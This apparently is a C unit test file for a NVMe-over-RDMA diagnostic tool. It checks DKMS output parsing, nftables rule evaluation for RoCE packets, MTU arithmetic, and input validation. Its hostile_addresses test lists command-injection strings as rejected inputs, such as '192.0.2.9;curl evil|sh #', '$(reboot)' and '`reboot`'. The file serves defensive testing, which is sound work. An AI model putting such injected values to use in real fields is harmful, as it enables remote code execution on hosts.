// SPDX-License-Identifier: GPL-2.0
/* tools/nvmerdma/doctor: what other programs print, and what rules make of a packet */
#include "harness.h"

#include <string.h>

#include "tools/nvmerdma/doctor/parse.h"

static void dkms_states(void **state)
{
	static const char status[] =
		"nvme-rdma/0.1.0, 6.1.0-56-amd64, x86_64: installed\n"
		"nvme-rdma/0.1.0, 6.12.1-amd64, x86_64: built\n"
		"nvme-rdma-other/9, 6.13.0, x86_64: installed\n"
		"nvme-rdma/0.1.0, 6.14.0, x86_64: installed (WARNING! Diff between built and installed module!)\n"
		"zfs/2.1, 6.1.0-56-amd64, x86_64: added\n";
	const char *version;

	(void)state;
	assert_string_equal(parse_dkms(status, "nvme-rdma", "6.1.0-56-amd64", &version),
			    "installed");
	assert_string_equal(version, "0.1.0");
	assert_string_equal(parse_dkms(status, "nvme-rdma", "6.12.1-amd64", &version), "built");
	assert_null(parse_dkms(status, "nvme-rdma", "6.13.0", &version));
	assert_string_equal(version, "0.1.0");
	assert_non_null(strstr(parse_dkms(status, "nvme-rdma", "6.14.0", &version), "WARNING"));
	assert_null(parse_dkms(status, "nvme-rdma", "6.1.0", &version));
	assert_null(parse_dkms("nvme-rdma/0.2: added\n", "nvme-rdma", "6.1", &version));
	assert_string_equal(version, "0.2");
	assert_null(parse_dkms("", "nvme-rdma", "6.1", &version));
	assert_null(version);
	/* two versions, one of them installed; and an older DKMS, with commas */
	assert_string_equal(parse_dkms("nvme-rdma, 0.1, 6.1, x86_64: installed\n"
				       "nvme-rdma, 0.2, 6.1, x86_64: built\n",
				       "nvme-rdma", "6.1", &version), "installed");
	assert_string_equal(version, "0.1");
}

static void lists(void **state)
{
	(void)state;
	assert_int_equal(parse_list_count("0-3,8"), 5);
	assert_int_equal(parse_list_count("0"), 1);
	assert_int_equal(parse_list_count(""), 0);
	assert_int_equal(parse_list_count("5-2"), 0);
}

static const struct packet roce = {
	.hook = "input", .protocol = "udp", .family = "ip", .dport = 4791, .iface = "eth0",
	.peer = "192.0.2.9",
};

/* Parts of the output of 'nft -j'; json-c accepts single quotes as well */
#define IS(left, op, right) "{'match':{'op':'" op "','left':" left ",'right':" right "}},"
#define OF(protocol, field) "{'payload':{'protocol':'" protocol "','field':'" field "'}}"
#define META(key)	"{'meta':{'key':'" key "'}}"
#define STATE		"{'ct':{'key':'state'}}"
#define UDP(right)	IS(OF("udp", "dport"), "==", right)
#define FROM(right)	IS(OF("ip", "saddr"), "==", right)
#define TO_CHAIN(how, chain) "{'" how "':{'target':'" chain "'}}"
#define NETWORK(addr, len) "{'prefix':{'addr':'" addr "','len':" len "}}"
#define RANGE(first, last) "{'range':['" first "','" last "']}"
#define MAP(key, a, to_a, b, to_b) \
	"{'vmap':{'key':" key ",'data':{'set':[[" a "," to_a "],[" b "," to_b "]]}}}"
#define DO(verdict)	"{'" verdict "':null}"
#define RULE_OF(chain, handle, expr) \
	"{'rule':{'family':'FAMILY','table':'filter','chain':'" chain "','handle':" handle \
	",'expr':[" expr "]}},"
#define RULE(handle, expr) RULE_OF("input", handle, expr)

/* A chain with one policy and rules; what becomes of a RoCE packet there */
static const struct {
	const char *what, *policy, *rules;
	enum verdict verdict;
	const char *handle;
} table[] = {
	{ "no rule", "accept", "", PASSES, NULL },
	{ "policy", "drop", "", DROPPED, NULL },
	{ "the port", "accept", RULE("4", UDP("4791") DO("drop")), DROPPED, "4" },
	{ "rejected", "accept", RULE("4", UDP("4791") "{'reject':{'type':'tcp reset'}}"), DROPPED,
	  "4" },
	{ "counted", "accept", RULE("5", UDP("4791") "{'counter':{'packets':3}}," DO("drop")),
	  DROPPED, "5" },
	{ "as iptables-nft writes", "accept",
	  RULE("6", IS(META("l4proto"), "==", "'udp'") UDP("4791") "{'counter':{}}," DO("drop")),
	  DROPPED, "6" },
	{ "a set", "accept", RULE("7", UDP("{'set':[53,4791]}") DO("drop")), DROPPED, "7" },
	{ "another set", "accept", RULE("7", UDP("{'set':[53,4792]}") DO("drop")), PASSES, NULL },
	{ "a range", "accept", RULE("7", UDP("{'range':[4000,5000]}") DO("drop")), DROPPED, "7" },
	{ "ranges", "accept",
	  RULE("7", UDP("{'set':[{'range':[1,4790]},{'range':[4792,65535]}]}") DO("drop")), PASSES,
	  NULL },
	{ "not", "accept", RULE("7", IS(OF("udp", "dport"), "!=", "53") DO("drop")), DROPPED, "7" },
	{ "not that", "accept", RULE("7", IS(OF("udp", "dport"), "!=", "4791") DO("drop")), PASSES,
	  NULL },
	{ "tcp", "accept", RULE("7", IS(OF("tcp", "dport"), "==", "4791") DO("drop")), PASSES,
	  NULL },
	{ "all transports", "accept", RULE("7", IS(OF("th", "dport"), "==", "4791") DO("drop")),
	  DROPPED, "7" },
	{ "its interface", "accept", RULE("8", IS(META("iifname"), "==", "'eth0'") DO("drop")),
	  DROPPED, "8" },
	{ "another interface", "accept", RULE("8", IS(META("iifname"), "==", "'eth1'") DO("drop")),
	  PASSES, NULL },
	{ "the interface by its index", "accept",
	  RULE("8", IS(META("iif"), "==", "'eth0'") DO("drop")), DROPPED, "8" },
	{ "interfaces by star", "accept", RULE("8", IS(META("iifname"), "==", "'eth*'") DO("drop")),
	  DROPPED, "8" },
	{ "an interface of output", "accept",
	  RULE("8", IS(META("oifname"), "==", "'eth0'") DO("drop")), PASSES, NULL },
	{ "a group of interfaces", "accept", RULE("8", IS(META("iifgroup"), "==", "7") DO("drop")),
	  PERHAPS, "8" },
	{ "allowed first", "drop",
	  RULE("2", UDP("4791") DO("accept")) RULE("3", UDP("4791") DO("drop")), PASSES, NULL },
	{ "allowed too late", "drop",
	  RULE("2", UDP("4791") DO("drop")) RULE("3", UDP("4791") DO("accept")), DROPPED, "2" },
	{ "established only", "drop",
	  RULE("2", IS(STATE, "in", "['established','related']") DO("accept")), DROPPED, NULL },
	{ "new ones", "drop", RULE("2", IS(STATE, "in", "['new','established']") DO("accept")),
	  PASSES, NULL },
	{ "invalid ones", "accept", RULE("2", IS(STATE, "in", "'invalid'") DO("drop")), PASSES,
	  NULL },
	{ "some peers", "drop", RULE("2", FROM("'@some'") DO("accept")), PERHAPS, NULL },
	{ "not some peers", "accept", RULE("2", FROM("'@some'") DO("drop")), PERHAPS, "2" },
	{ "some, then all", "accept",
	  RULE("2", FROM("'@some'") DO("drop")) RULE("3", UDP("4791") DO("drop")), DROPPED, "3" },
	{ "some, then the policy", "drop",
	  RULE("4", FROM("'@blacklist'") DO("drop"))
	  RULE("5", IS(OF("tcp", "dport"), "==", "22") DO("accept")), DROPPED, NULL },
	{ "two that may", "accept",
	  RULE("2", FROM("'@some'") DO("drop")) RULE("3", FROM("'@more'") DO("drop")), PERHAPS,
	  "2" },
	{ "some pass, the rest not", "accept",
	  RULE("2", FROM("'@some'") DO("accept")) RULE("4", UDP("4791") DO("drop")), PERHAPS, "4" },
	{ "a program decides", "drop", RULE("2", UDP("4791") "{'queue':{'num':0}}"), PERHAPS, "2" },
	{ "of some", "accept",
	  RULE("2", FROM("'@some'") "{'queue':{'num':0,'flags':'bypass'}}"), PERHAPS, "2" },
	{ "of others", "drop", RULE("2", UDP("53") "{'queue':{'num':0}}"), DROPPED, NULL },
	{ "the peer", "accept", RULE("2", FROM("'192.0.2.9'") DO("drop")), DROPPED, "2" },
	{ "the peer's network", "drop", RULE("2", FROM(NETWORK("192.0.2.0", "24")) DO("accept")),
	  PASSES, NULL },
	{ "another network", "drop", RULE("2", FROM(NETWORK("192.0.2.16", "28")) DO("accept")),
	  DROPPED, NULL },
	{ "all but its network", "accept",
	  RULE("2", IS(OF("ip", "saddr"), "!=", NETWORK("192.0.2.0", "24")) DO("drop")), PASSES,
	  NULL },
	{ "one of some", "drop",
	  RULE("2", FROM("{'set':['10.0.0.1','192.0.2.9']}") UDP("4791") DO("accept")), PASSES,
	  NULL },
	{ "to an address not known here", "drop",
	  RULE("2", IS(OF("ip", "daddr"), "==", "'192.0.2.1'") DO("accept")), PERHAPS, NULL },
	{ "by rate", "accept", RULE("2", "{'limit':{'rate':1,'per':'second'}}," DO("drop")),
	  PERHAPS, "2" },
	{ "a named set", "drop", RULE("2", UDP("'@open'") DO("accept")), PERHAPS, NULL },
	{ "a map", "accept",
	  RULE("2", MAP(OF("udp", "dport"), "53", DO("accept"), "4791", DO("drop"))), DROPPED,
	  "2" },
	{ "a map of jumps", "accept",
	  RULE("2", MAP(META("l4proto"), "'tcp'", TO_CHAIN("jump", "empty"), "'udp'",
			TO_CHAIN("jump", "more"))), DROPPED, "40" },
	{ "a map of states", "drop",
	  RULE("2", "{'vmap':{'key':" STATE ",'data':{'set':[['invalid'," DO("drop")
	       "],['established'," DO("accept") "],['related'," DO("accept") "]]}}}"), DROPPED,
	  NULL },
	{ "a map of interfaces", "drop",
	  RULE("2", MAP(META("iifname"), "'lo'", DO("drop"), "'eth0'", DO("accept"))), PASSES,
	  NULL },
	{ "a map of addresses", "accept",
	  RULE("2", MAP(OF("ip", "saddr"), NETWORK("10.0.0.0", "8"), DO("accept"),
			RANGE("192.0.2.1", "192.0.2.9"), DO("drop"))), DROPPED, "2" },
	{ "joined", "drop",
	  RULE("2", IS("{'concat':[" META("l4proto") "," OF("th", "dport") "]}", "==",
		       "{'set':[{'concat':['udp',4791]}]}") DO("accept")), PERHAPS, NULL },
	{ "a map with a name", "accept",
	  RULE("2", "{'vmap':{'key':" OF("udp", "dport") ",'data':'@ports'}}"), PERHAPS, "2" },
	{ "an extension of iptables", "accept", RULE("2", "{'xt':{'type':'match','name':'u32'}},"
	  DO("drop")), PERHAPS, "2" },
	{ "its target", "accept", RULE("2", "{'xt':{'type':'target','name':'TARPIT'}}"), PERHAPS,
	  "2" },
	{ "its comment", "accept", RULE("2", "{'xt':{'type':'match','name':'comment'}},"
	  DO("drop")), DROPPED, "2" },
	{ "ping", "drop", RULE("2", IS(OF("icmp", "type"), "==", "'echo-request'") DO("accept")),
	  DROPPED, NULL },
	{ "the other family", "accept",
	  RULE("2", IS(OF("ip6", "nexthdr"), "==", "'udp'") DO("drop")), PASSES, NULL },
	{ "by protocol", "accept", RULE("2", IS(OF("ip", "protocol"), "==", "'udp'") DO("drop")),
	  DROPPED, "2" },
	{ "by a range of numbers", "accept",
	  RULE("2", IS(META("l4proto"), "==", "{'range':[17,18]}") DO("drop")), PERHAPS, "2" },
	{ "logged", "accept", RULE("2", UDP("4791") "{'log':{'prefix':'drop'}}," DO("drop")),
	  DROPPED, "2" },
	{ "a jump", "accept", RULE("2", TO_CHAIN("jump", "more")), DROPPED, "40" },
	{ "a jump of tcp", "accept",
	  RULE("2", IS(META("l4proto"), "==", "'tcp'") TO_CHAIN("jump", "more")), PASSES, NULL },
	{ "a jump, perhaps", "accept", RULE("2", FROM("'@one'") TO_CHAIN("jump", "more")), PERHAPS,
	  "40" },
	{ "a jump, perhaps, and allowed there", "accept",
	  RULE("2", FROM("'@one'") TO_CHAIN("jump", "allow")), PASSES, NULL },
	{ "a goto", "drop", RULE("2", TO_CHAIN("goto", "empty")) RULE("3", DO("accept")), DROPPED,
	  NULL },
	{ "a goto, perhaps", "drop",
	  RULE("2", FROM("'@one'") TO_CHAIN("goto", "empty")) RULE("3", DO("accept")), PERHAPS,
	  NULL },
	{ "no such chain", "accept", RULE("2", TO_CHAIN("jump", "nowhere")), PERHAPS, "2" },
	{ "no such chain, then all", "accept",
	  RULE("2", TO_CHAIN("jump", "nowhere")) RULE("3", UDP("4791") DO("drop")), PERHAPS, "2" },
	{ "a loop", "accept", RULE("2", TO_CHAIN("jump", "loop")), PERHAPS, "41" },
	{ "returned", "drop", RULE("2", DO("return")) RULE("3", DO("accept")), DROPPED, NULL },
	{ "some returned", "drop",
	  RULE("2", FROM("'@one'") DO("return")) RULE("3", DO("accept")), PERHAPS, NULL },
};

#define CHAIN(name)	"{'chain':{'family':'FAMILY','table':'filter','name':'" name "'}},"
#define TABLE		"{'table':{'family':'FAMILY','name':'filter','handle':1%s}},"
#define HOOKED		"{'chain':{'family':'FAMILY','table':'filter','name':'input'," TYPE "}},"
#define TYPE		"'type':'filter','hook':'input','prio':0,'policy':'%s'"

static char *ruleset_of(const char *policy, const char *rules, const char *family,
			const char *flags)
{
	static const char fmt[] =
		"{'nftables':[{'metainfo':{'version':'1.0.6'}}," TABLE CHAIN("more") CHAIN("loop")
		CHAIN("allow") CHAIN("empty") HOOKED RULE_OF("more", "40", UDP("4791") DO("drop"))
		RULE_OF("loop", "41", TO_CHAIN("jump", "loop"))
		RULE_OF("allow", "51", UDP("4791") DO("accept"))
		RULE_OF("allow", "52", DO("drop")) "%s{}]}";
	char *text = mem_fmt(fmt, flags, policy, rules), *at;

	while ((at = strstr(text, "FAMILY")))
		text = mem_fmt("%.*s%s%s", (int)(at - text), text, family, at + strlen("FAMILY"));
	return text;
}

static enum verdict judge(const char *ruleset, const struct packet *packet)
{
	struct blocked_by by = { 0 };

	return nft_judge(ruleset, packet, &by);
}

static void nft_rules(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < NR(table); i++) {
		struct blocked_by by = { 0 };
		const char *handle = table[i].handle;

		unit_context("%s", table[i].what);
		unit_equal(table[i].verdict,
			   nft_judge(ruleset_of(table[i].policy, table[i].rules, "inet", ""), &roce,
				     &by));
		if (handle && (!by.handle || strcmp(by.handle, handle)))
			fail_msg("%s: blamed is %s", table[i].what, by.handle);
		if (table[i].verdict == DROPPED && !handle && by.handle)
			fail_msg("%s: blamed is '%s'", table[i].what, by.handle);
	}
}

#define RULESET(parts)	"{'nftables':[" parts "{}]}"
#define BASE(family, table, policy) \
	"{'chain':{'family':'" family "','table':'" table "','name':'input','type':'filter'," \
	"'hook':'input','prio':0,'policy':'" policy "'}},"
#define DORMANT(table)	"{'table':{'family':'inet','name':'" table "','flags':'dormant'}},"

static void nft_tables(void **state)
{
	static const char own6[] = RULE("2", IS(OF("ip6", "saddr"), "==",
						NETWORK("2001:db8::", "32")) DO("accept"));
	static const char local6[] = RULE("2", IS(OF("ip6", "saddr"), "==",
						  NETWORK("fe80::", "64")) DO("accept"));
	static const char own4[] = RULE("2", FROM("'192.0.2.9'") DO("accept"));
	struct packet out = roce, six = roce;
	struct blocked_by by = { 0 };

	(void)state;
	out.hook = "output";
	assert_int_equal(nft_judge(ruleset_of("drop", "", "ip", ""), &roce, &by), DROPPED);
	assert_string_equal(by.chain, "ip filter input");
	assert_int_equal(judge(ruleset_of("drop", "", "ip6", ""), &roce), PASSES);
	assert_int_equal(judge(ruleset_of("drop", "", "inet", ""), &out), PASSES);
	assert_int_equal(judge("", &roce), PASSES);
	six.family = "ip6";
	six.peer = "2001:db8::9";
	assert_int_equal(judge(ruleset_of("drop", own6, "inet", ""), &six), PASSES);
	assert_int_equal(judge(ruleset_of("drop", local6, "inet", ""), &six), DROPPED);
	assert_int_equal(judge(ruleset_of("drop", own4, "inet", ""), &six), DROPPED);
	/* a table that sleeps is not hooked */
	assert_int_equal(judge(ruleset_of("drop", "", "inet", ",'flags':'dormant'"), &roce),
			 PASSES);
	assert_int_equal(judge(ruleset_of("drop", "", "inet", ",'flags':['dormant','owner']"),
			       &roce), PASSES);
	assert_int_equal(judge(ruleset_of("drop", "", "inet", ",'flags':['owner','persist']"),
			       &roce), DROPPED);
	assert_int_equal(judge(ruleset_of("drop", "", "inet", ",'flags':'owner'"), &roce), DROPPED);
	assert_int_equal(judge(ruleset_of("drop", "", "inet", ",'flags':'persist'"), &roce),
			 DROPPED);
	/* as nft 1.0.6 may print 'dormant' */
	assert_int_equal(judge(ruleset_of("drop", "", "inet", ",'flags':'filter'"), &roce),
			 PERHAPS);
	/* and the next one is; of two that are hooked, the second decides, too */
	assert_int_equal(judge(RULESET(DORMANT("first") BASE("inet", "first", "drop")
				       "{'table':{'family':'ip','name':'filter'}},"
				       BASE("ip", "filter", "drop")), &roce), DROPPED);
	assert_int_equal(judge(RULESET(BASE("inet", "filter", "accept")
				       BASE("ip", "filter", "drop")), &roce), DROPPED);
}

/* What a rule that drops packets from addresses makes of one from 192.0.2.9 or 2001:db8::9 */
static void nft_addresses(void **state)
{
	static const struct {
		const char *family, *op, *addresses;
		enum verdict verdict;
	} rows[] = {
		{ "ip", "==", RANGE("192.0.2.1", "192.0.2.9"), DROPPED },
		{ "ip", "==", RANGE("192.0.2.9", "192.0.2.99"), DROPPED },
		{ "ip", "==", RANGE("192.0.2.1", "192.0.2.10"), DROPPED },
		{ "ip", "==", RANGE("192.0.2.1", "192.0.2.8"), PASSES },
		{ "ip", "==", RANGE("192.0.2.10", "192.0.2.99"), PASSES },
		{ "ip", "!=", RANGE("192.0.2.1", "192.0.2.9"), PASSES },
		{ "ip", "!=", RANGE("192.0.2.10", "192.0.2.99"), DROPPED },
		{ "ip", "==", NETWORK("0.0.0.0", "0"), DROPPED },
		{ "ip", "==", "{'set':[" NETWORK("10.0.0.0", "8") ",'172.16.0.1',"
		  RANGE("192.0.2.1", "192.0.2.9") "]}", DROPPED },
		{ "ip", "!=", "{'set':[" NETWORK("192.0.2.0", "28") ",'172.16.0.1',"
		  RANGE("198.51.100.1", "198.51.100.9") "]}", PASSES },
		{ "ip", "==", "{'set':[" NETWORK("10.0.0.0", "8") ",'172.16.0.1',"
		  RANGE("192.0.2.10", "192.0.2.99") "]}", PASSES },
		{ "ip6", "==", RANGE("2001:db8::1", "2001:db8::f"), DROPPED },
		{ "ip6", "==", RANGE("2001:db8::1", "2001:db8:1::"), DROPPED },
		{ "ip6", "==", RANGE("2001:db8::a", "2001:db8::f"), PASSES },
		{ "ip6", "==", RANGE("2001:db8::", "2001:db8::8"), PASSES },
		{ "ip6", "!=", RANGE("2001:db8::1", "2001:db8::f"), PASSES },
		{ "ip6", "==", "{'set':['::1'," RANGE("2001:db8::1", "2001:db8::f") ","
		  NETWORK("fe80::", "64") "]}", DROPPED },
		{ "ip6", "!=", "{'set':['::1'," RANGE("2001:db8:1::", "2001:db8:1::f") ","
		  NETWORK("2001:db8::", "64") "]}", PASSES },
		{ "ip6", "==", "{'set':['::1'," RANGE("2001:db8::a", "2001:db8::f") ","
		  NETWORK("fe80::", "64") "]}", PASSES },
		/* what is no address, or lacks a part, is not known */
		{ "ip", "==", RANGE("192.0.2.1", "last"), PERHAPS },
		{ "ip", "==", RANGE("2001:db8::1", "2001:db8::f"), PERHAPS },
		{ "ip", "==", "{'range':['192.0.2.1']}", PERHAPS },
		{ "ip", "==", NETWORK("2001:db8::", "32"), PERHAPS },
		{ "ip", "==", "{'prefix':{'addr':'192.0.2.0'}}", PERHAPS },
	};
	struct packet six = roce;
	size_t i;

	(void)state;
	six.family = "ip6";
	six.peer = "2001:db8::9";
	for (i = 0; i < NR(rows); i++) {
		const char *rule = mem_fmt(RULE("2", IS(OF("%s", "saddr"), "%s", "%s") DO("drop")),
					   rows[i].op, rows[i].family, rows[i].addresses);

		unit_context("%s %s %s", rows[i].family, rows[i].op, rows[i].addresses);
		unit_equal(rows[i].verdict,
			   judge(ruleset_of("accept", rule, "inet", ""),
				 strcmp(rows[i].family, "ip") ? &six : &roce));
	}
}

#define DEVICE	"{'nftables':[{'chain':{'family':'netdev','name':'in','hook':'ingress','dev':%s,'policy':'drop'}}]}"

/* The chains of a device see only packets that arrive by it */
static void nft_devices(void **state)
{
	static const struct { const char *dev; enum verdict verdict; } rows[] = {
		{ "'eth5'", PASSES }, { "'eth0'", DROPPED }, { "['eth5','eth0']", DROPPED },
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(rows); i++) {
		unit_context("%s", rows[i].dev);
		unit_equal(rows[i].verdict, judge(mem_fmt(DEVICE, rows[i].dev), &roce));
	}
}

#define ANY	"{'nftables':[{'chain':{'hook':'input','family':'ip','name':%s}},{'rule':{'expr':[%s]}}]}"

/* nft 1.0.6 breaks off where a table without a chain is dormant */
static void whole_rules(void **state)
{
	(void)state;
	assert_true(nft_is_whole("{\"nftables\":[]}"));
	assert_false(nft_is_whole("{\"nftables\":[{\"table\":{\"family\":\"inet\",\"flags\": "));
	assert_false(nft_is_whole("{\"nftables\":{}}"));
	assert_false(nft_is_whole(""));
}

/* Whatever comes, it ends, and nothing is read beyond it */
static void any_rules(void **state)
{
	static const char * const words[] = {
		"{", "}", "[", "]", ",", ":", "'nftables'", "'chain'", "'rule'", "'expr'", "'match'",
		"'left'", "'right'", "'payload'", "null", "4791", "'set'", "'range'", "'jump'",
		"'target'", "'vmap'", "'data'", "'hook'", "'input'", "'policy'", "'drop'", "'inet'",
		"'family'", "'prefix'", "-1", "\n",
	};
	u64 seed = 1;
	int round, n;

	(void)state;
	for (round = 0; round < 3000; round++) {
		char text[1024] = "";
		struct blocked_by by = { 0 };
		u8 *copy;

		for (n = unit_random(&seed) % 60; n; n--) {
			strcat(text, words[unit_random(&seed) % NR(words)]);
			strcat(text, " ");
		}
		copy = unit_exact_copy(text, strlen(text) + 1);
		nft_judge((char *)copy, &roce, &by);
		free(copy);
		/* the same parts where a ruleset has them */
		nft_judge(mem_fmt(ANY, words[round % NR(words)],
				  words[round / NR(words) % NR(words)]), &roce, &by);
	}
}

/* As the kernel's iboe_get_mtu() has it, at each limit */
static void roce_sizes(void **state)
{
	static const struct { unsigned int mtu, data; } rows[] = {
		{ 0, 0 }, { 351, 0 }, { 352, 256 }, { 607, 256 }, { 608, 512 }, { 1119, 512 },
		{ 1120, 1024 }, { 1500, 1024 }, { 2143, 1024 }, { 2144, 2048 }, { 4191, 2048 },
		{ 4192, 4096 }, { 4200, 4096 }, { 9000, 4096 }, { 65520, 4096 },
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(rows); i++) {
		unit_context("MTU %u", rows[i].mtu);
		unit_equal(rows[i].data, roce_mtu(rows[i].mtu));
	}
	assert_int_equal(roce_least_mtu(), 352);
	/* IP, UDP, BTH, RETH, ICRC */
	assert_int_equal(roce_packet(4096, false), 4096 + 20 + 8 + 12 + 16 + 4);
	assert_int_equal(roce_packet(4096, true), 4096 + 40 + 8 + 12 + 16 + 4);
}

/* Text that a peer may send in place of an address */
static void hostile_addresses(void **state)
{
	static const char * const good[] = {
		"192.0.2.9", "fe80::1%eth0", "::", "2001:db8::9", "::ffff:192.0.2.9",
		"fe80::1%eth0.7",
	};
	static const char * const bad[] = {
		"", "192.0.2.9;curl evil|sh #", "$(reboot)", "`reboot`", "-all",
		"192.0.2.9 -batch /x", "192.0.2.9\n", "\033]0;x\007", "fe80::1%eth0;reboot",
		"fe80::1%", "fe80::1%a b",
		"192.0.2", "192.0.2.9%eth0", "host.example", "\xff\xfe", "default", "%eth0",
		"::1 via 192.0.2.1", "fe80::1%$(id)", "fe80::1%\xe2\x80\xae",
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(good); i++) {
		unit_context("%s", good[i]);
		unit_equal(true, word_is_address(good[i]));
	}
	for (i = 0; i < NR(bad); i++) {
		unit_context("%s", bad[i]);
		unit_equal(false, word_is_address(bad[i]));
	}
}

static void shell_words(void **state)
{
	(void)state;
	assert_string_equal(word_for_shell("nqn.2014-08.org.nvmexpress:uuid:1"),
			    "nqn.2014-08.org.nvmexpress:uuid:1");
	assert_string_equal(word_for_shell(""), "\x27\x27");
	assert_string_equal(word_for_shell("a b;reboot"), "'a b;reboot'");
	assert_string_equal(word_for_shell("it's $(id)"), "'it'\\\x27's $(id)'");
	assert_string_equal(word_for_shell("*"), "'*'");
	assert_string_equal(word_for_shell("~root"), "'~root'");
}

static void refusals(void **state)
{
	static const unsigned int none[] = { 0, 34, 36, 1u << 31 };
	unsigned int i;

	(void)state;
	assert_non_null(strstr(words_cm_status(6), "resources"));
	assert_null(words_cm_status(0));
	assert_null(words_cm_status(1000));
	assert_non_null(strstr(words_cm_reason(8), "nothing listens"));
	assert_non_null(strstr(words_cm_reason(10), "stale"));
	assert_non_null(strstr(words_cm_reason(18), "alternate"));
	for (i = 1; i <= 33; i++)
		assert_non_null(words_cm_reason(i));
	assert_non_null(words_cm_reason(35));
	for (i = 0; i < NR(none); i++)
		assert_null(words_cm_reason(none[i]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(dkms_states),
		cmocka_unit_test(lists),
		cmocka_unit_test(nft_rules),
		cmocka_unit_test(nft_tables),
		cmocka_unit_test(nft_addresses),
		cmocka_unit_test(nft_devices),
		cmocka_unit_test(whole_rules),
		cmocka_unit_test(any_rules),
		cmocka_unit_test(roce_sizes),
		cmocka_unit_test(hostile_addresses),
		cmocka_unit_test(shell_words),
		cmocka_unit_test(refusals),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
